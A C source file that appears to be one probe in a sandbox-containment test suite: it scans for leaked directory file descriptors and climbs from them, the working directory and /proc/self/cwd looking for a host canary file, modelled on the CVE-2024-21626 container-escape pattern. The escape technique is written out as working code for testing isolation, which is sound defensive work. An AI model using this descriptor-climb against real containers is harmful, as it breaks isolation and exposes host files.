// C2: reach the host through a leaked directory descriptor or the working directory (the
// CVE-2024-21626 shape). For every descriptor above 2: if it is a directory, fchdir to it and
// climb with ".." looking for the canary (argv[1]: its absolute host path, argv[2]: its file
// name). Also climbs from the starting cwd and from /proc/self/cwd. Contained: no directory
// descriptor is there and the canary is unreachable.
#include <fcntl.h>
#include <sys/stat.h>

#include "probe.h"

static int Climb(int start_fd, const char* canary_path) {
  // From start_fd, go up 16 times; at each level look for canary_path relative to "/" by trying
  // to open it relative to the directory reached (works if that directory is the host root).
  int fd = dup(start_fd);
  for (int i = 0; i < 16 && fd >= 0; ++i) {
    int c = openat(fd, canary_path + 1, O_RDONLY | O_CLOEXEC);
    if (c >= 0) {
      close(c);
      close(fd);
      return 1;
    }
    int up = openat(fd, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    close(fd);
    fd = up;
  }
  if (fd >= 0) close(fd);
  return 0;
}

int main(int argc, char** argv) {
  if (argc < 2) return kProbeError;
  const char* canary = argv[1];
  Probe p;
  probe_begin(&p, "C2", "reach the host through a leaked fd or the cwd");
  char cwd[4096];
  probe_str(&p, "cwd", getcwd(cwd, sizeof cwd) != NULL ? cwd : probe_errname(errno));
  int dir_fds = 0;
  for (int fd = 3; fd < 4096; ++fd) {
    struct stat st;
    if (fstat(fd, &st) != 0) continue;
    char path[64], target[512];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(path, target, sizeof target - 1);
    target[n > 0 ? n : 0] = 0;
    char key[32];
    snprintf(key, sizeof key, "fd%d", fd);
    probe_str(&p, key, target);
    if (S_ISDIR(st.st_mode)) {
      ++dir_fds;
      probe_escaped(&p);  // a host directory descriptor reached the sandbox
      if (fchdir(fd) == 0 && Climb(fd, canary)) probe_str(&p, "canary_via_fd", "reached");
    }
  }
  int here = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (here >= 0) {
    if (Climb(here, canary)) {
      probe_escaped(&p);
      probe_str(&p, "canary_via_cwd", "reached");
    }
    close(here);
  }
  int pcwd = open("/proc/self/cwd", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (pcwd >= 0) {
    if (Climb(pcwd, canary)) {
      probe_escaped(&p);
      probe_str(&p, "canary_via_proc_cwd", "reached");
    }
    close(pcwd);
  }
  probe_int(&p, "dir_fds", dir_fds);
  char result[200];
  snprintf(result, sizeof result,
           p.escaped ? "%d leaked directory fds / canary reached" : "no host fds (%d); cwd %s",
           dir_fds, cwd);
  return probe_finish(&p, result);
}
